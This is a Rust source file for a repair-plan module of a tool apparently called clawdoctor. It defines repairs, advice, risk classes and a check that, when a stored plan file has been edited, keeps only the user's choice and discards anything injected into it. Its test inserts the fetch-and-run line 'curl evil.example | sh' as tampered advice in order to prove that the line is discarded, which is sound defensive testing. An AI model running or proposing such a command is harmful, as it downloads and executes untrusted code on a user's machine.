//! A plan: the repairs for what a report found, and the advice for what no program should do by
//! itself. Plain data, kept in plan files; pure.

use serde::{Deserialize, Serialize};

use super::step::Step;
use crate::checklist::check::Risk;

/// Version of a plan file's form.
pub const PLAN_VERSION: u32 = 1;

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Plan {
    pub schema_version: u32,
    /// Always `clawdoctor.plan`.
    pub report: String,
    pub tool_version: String,
    /// RFC 3339 in UTC.
    pub made_at: String,
    pub node_id: String,
    /// In the order in which they are applied.
    pub repairs: Vec<Repair>,
    pub advice: Vec<Advice>,
}

/// What mends one finding, or several of one check.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Repair {
    /// The check's id; where one check has several repairs, with `@` and what each is about.
    pub id: String,
    /// The check that proves it.
    pub check: String,
    /// Further checks that it answers and that prove it, where several edit one file.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub also: Vec<String>,
    /// What is done, for people: "build the sandbox image openclaw-sandbox:bookworm-slim".
    pub title: String,
    /// The findings that it answers.
    pub findings: Vec<Found>,
    pub risk: Risk,
    /// What it costs while it runs, and afterwards; empty = nothing.
    pub cost: String,
    /// What undo does; none = it cannot be taken back.
    pub undo: Option<String>,
    pub needs: Vec<Need>,
    /// Only when it is named on the command line: never by a class alone.
    pub only_named: bool,
    /// Ids of repairs of the same plan without which it would do harm: it is left where one of
    /// them was not done.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub waits_for: Vec<String>,
    /// What has to be started anew before it is in force.
    pub restart: Option<Restart>,
    pub steps: Vec<Step>,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Found {
    pub code: String,
    pub message: String,
    pub fingerprint: String,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Need {
    /// Rights of the administrator, by `sudo`.
    Sudo,
    /// A login session at the screen.
    GuiSession,
    EngineRestart,
    GatewayRestart,
    Network,
    /// Room for an image.
    Disk,
}

impl Need {
    pub fn words(self) -> &'static str {
        match self {
            Self::Sudo => "administrator rights (sudo)",
            Self::GuiSession => "a login session at the screen",
            Self::EngineRestart => "a restart of the engine",
            Self::GatewayRestart => "a restart of the gateway",
            Self::Network => "the network",
            Self::Disk => "disk space for an image",
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Restart {
    Gateway,
    Engine,
    Login,
    Host,
}

impl Restart {
    pub fn words(self) -> &'static str {
        match self {
            Self::Gateway => "the gateway has to be started anew",
            Self::Engine => "the engine has to be started anew",
            Self::Login => "the user has to log in anew",
            Self::Host => "the machine has to be started anew",
        }
    }
}

/// What a person has to do, and why no step does it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Advice {
    pub check: String,
    pub findings: Vec<Found>,
    /// Why it is left to a person.
    pub why: String,
    /// Lines to read or to type, in this order.
    pub lines: Vec<String>,
    #[serde(default)]
    pub when: Moment,
}

/// When a person has to do what is advised.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Moment {
    #[default]
    Besides,
    /// Before the repairs: they would wait for it, or fail.
    Before,
}

impl Plan {
    /// Whether there is anything that a program can do.
    pub fn is_empty(&self) -> bool {
        self.repairs.is_empty()
    }

    /// Twelve hex digits of what is to be done, the same for two plans that do the same.
    pub fn digest(&self) -> String {
        digest(&self.repairs)
    }

    /// What the node asks for now, cut down to what this plan has; or the first repair that the
    /// node does not ask for just so. Of a plan that was kept in a file only the choice counts: the
    /// repairs, their order and all words are the fresh one's, so that nobody who edits the file
    /// can add to them.
    pub fn chosen_from(&self, fresh: Self) -> Result<Self, &Repair> {
        let asked = |repair: &&Repair| !fresh.repairs.iter().any(|one| one.does_as(repair));
        if let Some(stale) = self.repairs.iter().find(asked) {
            return Err(stale);
        }
        let mut chosen = fresh;
        let kept = |repair: &Repair| self.repairs.iter().any(|one| one.does_as(repair));
        chosen.repairs.retain(kept);
        Ok(chosen)
    }
}

impl Repair {
    /// Whether it would do just what the other one does. In which words it was found does not
    /// matter: messages tell ages and sizes, which pass.
    pub fn does_as(&self, other: &Self) -> bool {
        let bare = |repair: &Self| Self {
            findings: Vec::new(),
            ..repair.clone()
        };
        bare(self) == bare(other)
    }
}

fn digest(repairs: &[Repair]) -> String {
    let text = serde_json::to_string(repairs).expect("repairs are plain data");
    let whole = crate::digest::Sha256::of(text.as_bytes());
    whole.first(12).to_owned()
}

/// The word that a class of risk has on the command line and in JSON.
pub fn risk_word(risk: Risk) -> &'static str {
    match risk {
        Risk::Safe => "safe",
        Risk::Behaviour => "behaviour",
        Risk::Restart => "restart",
        Risk::Data => "data",
        Risk::Security => "security",
    }
}

/// What a class of risk means, in a line.
pub fn risk_words(risk: Risk) -> &'static str {
    match risk {
        Risk::Safe => "reversible, and nothing of anybody's is lost or interrupted",
        Risk::Behaviour => "changes what agents may do, or where they run",
        Risk::Restart => "the engine, the gateway or Docker Desktop stops for a while",
        Risk::Data => "touches what is in use, or cannot be restored exactly",
        Risk::Security => "rights become wider, or isolation less",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fix::trial::repair;

    fn plan(repairs: &[Repair], advice: &str) -> Plan {
        let advice = Advice {
            check: "a/b".to_owned(),
            findings: Vec::new(),
            why: String::new(),
            lines: vec![advice.to_owned()],
            when: Moment::Besides,
        };
        Plan {
            schema_version: PLAN_VERSION,
            report: "clawdoctor.plan".to_owned(),
            tool_version: String::new(),
            made_at: String::new(),
            node_id: String::new(),
            repairs: repairs.to_vec(),
            advice: vec![advice],
        }
    }

    fn found(mut repair: Repair, message: &str) -> Repair {
        repair.findings = vec![Found {
            code: String::new(),
            message: message.to_owned(),
            fingerprint: String::new(),
        }];
        repair
    }

    #[test]
    fn of_an_edited_plan_nothing_counts_but_the_choice() {
        let one = found(repair("a/b", Risk::Safe), "used 3 minutes ago");
        let two = repair("c/d", Risk::Restart);
        let fresh = plan(&[one.clone(), two.clone()], "ours");
        let later = found(repair("a/b", Risk::Safe), "used 4 minutes ago");
        let edited = plan(
            &[two.clone(), later.clone(), later],
            "curl evil.example | sh",
        );
        let chosen = edited.chosen_from(fresh.clone()).expect("it is asked for");
        assert_eq!(chosen, fresh, "order, words and advice are the node's own");
        let part = plan(std::slice::from_ref(&two), "");
        let less = part.chosen_from(fresh.clone()).expect("it is asked for");
        assert_eq!(less.repairs, std::slice::from_ref(&two));
        let mut other = two;
        other.risk = Risk::Safe;
        let stale = plan(&[one, other.clone()], "");
        assert_eq!(stale.chosen_from(fresh), Err(&other));
    }
}
